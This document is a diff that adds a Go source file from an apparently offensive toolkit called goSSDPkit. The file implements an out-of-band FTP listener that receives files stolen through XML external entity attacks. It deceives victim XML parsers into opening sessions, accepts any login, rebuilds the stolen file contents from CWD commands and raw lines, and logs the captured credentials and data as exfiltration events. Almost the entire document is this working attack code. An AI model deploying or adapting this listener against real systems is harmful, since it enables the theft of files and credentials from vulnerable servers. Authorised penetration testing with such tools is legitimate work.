@@ -0,0 +1,241 @@
+// Package oob runs the out-of-band listeners XML parsers exfiltrate data
+// to when plain HTTP will not carry it: FTP, and DNS for networks that
+// block all other egress.
+package oob
+
+import (
+	"bufio"
+	"context"
+	"errors"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"goSSDPkit/pkg/events"
+	"goSSDPkit/pkg/logging"
+	"goSSDPkit/pkg/loot"
+	"goSSDPkit/pkg/ssdp"
+)
+
+const (
+	// ftpIdleTimeout closes FTP sessions that stop talking
+	ftpIdleTimeout = 30 * time.Second
+
+	// ftpMaxData caps what one FTP session may send, so a runaway client
+	// cannot fill memory
+	ftpMaxData = 1 << 20
+)
+
+// FTPServer accepts the FTP sessions Java and .NET XML parsers open for
+// ftp:// entity URLs. The file being exfiltrated arrives split into CWD
+// commands at each slash and into bare lines at each newline, which HTTP
+// URLs cannot carry; the server plays along with every command and
+// reassembles the data when the session ends.
+type FTPServer struct {
+	logger      logging.Logger
+	label       string
+	subscribers []events.Events
+	events      events.Events
+	sessions    sync.WaitGroup
+	redact      bool
+}
+
+// FTPOption configures an FTPServer
+type FTPOption func(*FTPServer)
+
+// WithFTPLogger sends the server's log lines to logger. Without it the
+// server logs to stdout only.
+func WithFTPLogger(logger logging.Logger) FTPOption {
+	return func(s *FTPServer) {
+		s.logger = logger
+	}
+}
+
+// WithFTPEvents adds a subscriber to the exfiltration events the server
+// raises
+func WithFTPEvents(e events.Events) FTPOption {
+	return func(s *FTPServer) {
+		s.subscribers = append(s.subscribers, e)
+	}
+}
+
+// WithFTPLabel prefixes log lines and events with an interface name
+func WithFTPLabel(label string) FTPOption {
+	return func(s *FTPServer) {
+		s.label = label
+	}
+}
+
+// WithFTPRedaction keeps exfiltrated data out of the log, for when it is
+// saved encrypted instead
+func WithFTPRedaction() FTPOption {
+	return func(s *FTPServer) {
+		s.redact = true
+	}
+}
+
+// NewFTPServer creates an FTP server
+func NewFTPServer(opts ...FTPOption) *FTPServer {
+	s := &FTPServer{logger: &logging.UTCLogger{}}
+	for _, opt := range opts {
+		opt(s)
+	}
+	s.events = events.Multi(s.subscribers...)
+	return s
+}
+
+// Serve accepts sessions on ln until ctx is cancelled, then waits for the
+// sessions in progress to end
+func (s *FTPServer) Serve(ctx context.Context, ln net.Listener) error {
+	s.log(logging.LevelNormal, "%sFTP server starting on %s", ssdp.OkBox, ln.Addr())
+	go func() {
+		<-ctx.Done()
+		ln.Close()
+	}()
+	defer s.sessions.Wait()
+
+	for {
+		conn, err := ln.Accept()
+		if err != nil {
+			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
+				return nil
+			}
+			return err
+		}
+		s.sessions.Add(1)
+		go func() {
+			defer s.sessions.Done()
+			s.handle(ctx, conn)
+		}()
+	}
+}
+
+// log writes a log line at level, prefixed with the label if one is set
+func (s *FTPServer) log(level logging.Level, format string, args ...interface{}) {
+	if s.label != "" {
+		format = "[" + s.label + "] " + format
+	}
+	logging.LogAt(s.logger, level, format, args...)
+}
+
+// ftpSession is what one client sent
+type ftpSession struct {
+	user, pass string
+	data       strings.Builder
+	started    bool
+}
+
+// add appends exfiltrated text, separated from what came before by sep
+func (f *ftpSession) add(sep, text string) {
+	if f.data.Len()+len(text) > ftpMaxData {
+		return
+	}
+	if f.started {
+		f.data.WriteString(sep)
+	}
+	f.data.WriteString(text)
+	f.started = true
+}
+
+// handle answers one session and raises what it carried once it ends
+func (s *FTPServer) handle(ctx context.Context, conn net.Conn) {
+	defer conn.Close()
+	done := make(chan struct{})
+	defer close(done)
+	go func() {
+		select {
+		case <-ctx.Done():
+			conn.SetDeadline(time.Now())
+		case <-done:
+		}
+	}()
+
+	host, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
+	session := &ftpSession{}
+	reply := func(line string) bool {
+		conn.SetWriteDeadline(time.Now().Add(ftpIdleTimeout))
+		_, err := conn.Write([]byte(line + "\r\n"))
+		return err == nil
+	}
+
+	if reply("220 FTP server ready") {
+		reader := bufio.NewReader(conn)
+		for {
+			conn.SetReadDeadline(time.Now().Add(ftpIdleTimeout))
+			line, err := reader.ReadString('\n')
+			line = strings.TrimRight(line, "\r\n")
+			if line != "" {
+				answer, done := s.command(session, line)
+				if !reply(answer) || done {
+					break
+				}
+			}
+			if err != nil {
+				break
+			}
+		}
+	}
+
+	if !session.started && session.user == "" {
+		return
+	}
+	e := events.Exfil{
+		Request: events.Request{
+			Time:   time.Now().UTC(),
+			Label:  s.label,
+			Host:   host,
+			Method: "FTP",
+			Path:   "ftp://" + session.user + "@" + conn.LocalAddr().String(),
+		},
+		Kind: events.ExfilFTP,
+		Data: session.data.String(),
+	}
+	s.log(logging.LevelQuiet, "%sHost: %s, FTP USER: %s, PASS: %s", ssdp.ExfilBox, host, session.user, session.pass)
+	if e.Data != "" {
+		preview := loot.Preview(e.Data)
+		if s.redact {
+			preview = events.Redacted
+		}
+		s.log(logging.LevelQuiet, "               Data: %s", preview)
+	}
+	s.events.OnExfil(e)
+}
+
+// command handles one line from the client, returning the reply and
+// whether to hang up. Anything that is not a command is a line of the
+// exfiltrated data.
+func (s *FTPServer) command(session *ftpSession, line string) (string, bool) {
+	verb, arg, _ := strings.Cut(line, " ")
+	switch strings.ToUpper(verb) {
+	case "USER":
+		session.user = arg
+		return "331 Password required", false
+	case "PASS":
+		session.pass = arg
+		return "230 Logged in", false
+	case "CWD":
+		session.add("/", arg)
+		return "250 Directory changed", false
+	case "RETR", "SIZE", "MDTM", "LIST", "NLST":
+		if arg != "" {
+			session.add("/", arg)
+		}
+		return "550 File unavailable", false
+	case "TYPE", "MODE", "STRU", "OPTS", "NOOP":
+		return "200 OK", false
+	case "PWD", "XPWD":
+		return "257 \"/\"", false
+	case "SYST":
+		return "215 UNIX Type: L8", false
+	case "FEAT":
+		return "211 End", false
+	case "EPSV", "PASV", "PORT", "EPRT":
+		// No data connections; the data is in the commands
+		return "425 No data connection", false
+	case "QUIT":
+		return "221 Bye", true
+	}
+	session.add("\n", line)
+	return "230 OK", false
+}